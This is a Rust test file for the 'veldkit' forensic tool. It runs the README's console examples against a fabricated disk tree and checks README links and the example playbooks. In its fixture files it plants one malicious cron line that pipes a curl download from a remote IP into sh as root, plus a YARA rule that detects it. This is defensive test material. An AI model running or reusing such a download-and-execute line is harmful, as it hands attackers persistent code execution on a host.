//! The commands of README: each runs in a directory that the test makes, ends with 0, and prints what README shows.
//!
//! A block of kind `console` is a session: a line that begins with `$ ` is a command, the lines below it are what it
//! prints, on both streams. In these, `…` stands for any text within a line, and `[…]` for any lines. All blocks share one
//! directory, in which `disk` is a made tree; a `collect` that names no target gets `--root disk`, so that the evidence is
//! made.

use std::fs;
use std::path::Path;
use std::process::Command;

use crate::made::Made;

const README: &str = include_str!("../../README.md");

/// A command of README with the lines that README shows below it.
struct Shown {
    command: String,
    lines: Vec<String>,
}

/// Returns the commands of all `console` blocks in order.
fn shown(markdown: &str) -> Vec<Shown> {
    let mut commands: Vec<Shown> = Vec::new();
    let mut inside = false;
    for line in markdown.lines() {
        let text = line.trim_start();
        if text.starts_with("```") {
            inside = text == "```console";
        } else if let (true, Some(command)) = (inside, text.strip_prefix("$ ")) {
            commands.push(Shown { command: command.to_owned(), lines: Vec::new() });
        } else if inside {
            commands.last_mut().unwrap().lines.push(text.trim_end().to_owned());
        }
    }
    commands
}

/// Whether a line is what README shows: `…` stands for any text.
fn line_matches(pattern: &str, line: &str) -> bool {
    let mut parts = pattern.split('…');
    let Some(rest) = line.strip_prefix(parts.next().unwrap()) else { return false };
    let mut parts: Vec<&str> = parts.collect();
    let Some(last) = parts.pop() else { return rest.is_empty() };
    let mut rest = rest;
    for part in parts {
        let Some(at) = rest.find(part) else { return false };
        rest = &rest[at + part.len()..];
    }
    rest.ends_with(last)
}

/// Whether lines are those that README shows: `[…]` stands for any lines.
fn lines_match(patterns: &[String], lines: &[&str]) -> bool {
    match patterns.split_first() {
        None => lines.is_empty(),
        Some((first, others)) if first == "[…]" => {
            (0..=lines.len()).any(|skipped| lines_match(others, &lines[skipped..]))
        }
        Some((first, others)) => lines
            .split_first()
            .is_some_and(|(line, rest)| line_matches(first, line) && lines_match(others, rest)),
    }
}

/// The command as the test runs it: on evidence that was made.
fn on_made_evidence(command: &str) -> String {
    let names_a_target = ["--root", "--image", "--path"].iter().any(|option| command.contains(option));
    if command.starts_with("veldkit collect") && !names_a_target {
        command.replacen("veldkit collect", "veldkit collect --root disk", 1)
    } else {
        command.to_owned()
    }
}

fn prepare(directory: &Path) {
    let files = [
        ("disk/etc/hostname", "zaak-web01\n"),
        ("disk/etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n"),
        ("disk/etc/passwd", "root:x:0:0::/root:/bin/bash\n"),
        ("disk/etc/cron.d/sync", "* * * * * root curl -s http://198.51.100.7/x | sh\n"),
        ("disk/var/lib/dpkg/status", "Package: base-files\nStatus: install ok installed\nVersion: 12\n"),
        ("rules/example.yar", "rule downloads_and_runs { strings: $a = \"curl -s http\" condition: $a }\n"),
    ];
    for (path, text) in files {
        let path = directory.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    fs::create_dir(directory.join("stick")).unwrap();
}

#[test]
fn every_command_of_readme_does_what_it_shows() {
    let made = Made::new();
    let directory = made.path().join("readme");
    fs::create_dir(&directory).unwrap();
    prepare(&directory);
    let program = Path::new(env!("CARGO_BIN_EXE_veldkit")).parent().unwrap();
    let commands = shown(README);
    assert!(commands.iter().filter(|shown| shown.command.contains("veldkit ")).count() >= 6);
    for Shown { command, lines } in commands {
        let output = Command::new("bash")
            .args(["-c", &format!("exec 2>&1; {}", on_made_evidence(&command))])
            .current_dir(&directory)
            .env_clear()
            .env("PATH", format!("{}:/usr/local/bin:/usr/bin:/bin", program.display()))
            .env("LC_ALL", "en_US.UTF-8")
            .output()
            .unwrap();
        let printed = String::from_utf8(output.stdout).unwrap();
        assert_eq!(output.status.code(), Some(0), "$ {command}\n{printed}");
        let seen: Vec<&str> = printed.lines().map(str::trim).collect();
        assert!(lines.is_empty() || lines_match(&lines, &seen), "$ {command}\n{printed}");
    }
}

#[test]
fn readme_has_at_most_200_lines_and_its_links_lead_somewhere() {
    assert!(README.lines().count() <= 200, "{} lines", README.lines().count());
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let links = README.split("](").skip(1).filter_map(|rest| rest.split(')').next());
    let broken: Vec<&str> = links.filter(|link| !link.contains("://") && !root.join(link).exists()).collect();
    assert!(broken.is_empty(), "{broken:?}");
}

#[test]
fn the_examples_of_playbooks_have_no_faults() {
    let made = Made::new();
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("playbooks/examples");
    let output = made.veldkit(["playbook", "check", examples.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn a_line_that_readme_does_not_show_is_noticed() {
    assert!(line_matches("seal code …", "seal code V92Q-2"));
    assert!(!line_matches("seal code …", "sealed"));
    assert!(line_matches("a … b … c", "a 1 b 2 c") && !line_matches("a … b … c", "a 1 2 c"));
    let patterns = ["first".to_owned(), "[…]".to_owned(), "last".to_owned()];
    assert!(lines_match(&patterns, &["first", "x", "last"]) && lines_match(&patterns, &["first", "last"]));
    assert!(!lines_match(&patterns, &["first", "x"]) && !lines_match(&patterns, &["first", "last", "x"]));
    let shown = shown("```console\n$ a\nx\n$ b\n```\n```sh\n$ c\n```\n");
    assert_eq!(shown.iter().map(|shown| shown.command.as_str()).collect::<Vec<_>>(), ["a", "b"]);
    assert_eq!(shown[0].lines, ["x"]);
}
